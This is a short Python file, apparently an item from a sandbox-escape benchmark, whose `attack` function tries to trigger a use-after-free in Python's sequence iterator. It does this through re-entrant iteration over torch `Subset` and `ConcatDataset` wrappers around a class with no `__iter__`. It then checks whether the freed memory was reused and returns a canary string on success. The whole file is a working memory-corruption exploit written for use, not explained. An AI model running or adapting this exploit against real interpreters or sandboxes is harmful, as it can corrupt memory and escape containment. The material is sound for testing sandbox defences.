"""Class: memory. Source: own find. Escape: an object is freed while it is in use. Python's iterator over what has
items and no `__iter__` lets go of it at its end, and once more if the object asked for the end meanwhile."""

from torch.utils.data import ConcatDataset, Subset


class Ends:
    def __getitem__(self, i):
        if not asked:
            asked.append(1)
            for _ in walked[0]:
                pass
        raise IndexError

    def __len__(self):
        return 3


asked = []
walked = [None]


def attack(model, tokenizer, address):
    for make in (lambda: Subset(Ends(), [0, 1, 2]), lambda: ConcatDataset([Ends()])):
        for _ in range(100):
            asked.clear()
            made = make()
            kept = [made]
            walked[0] = iter(made)
            list(walked[0])
            walked[0] = None
            made = None
            others = [Subset([5], [0]) for _ in range(10)]
            if kept[0] in others:
                return "canary-" + "5d1f"
            kept = None
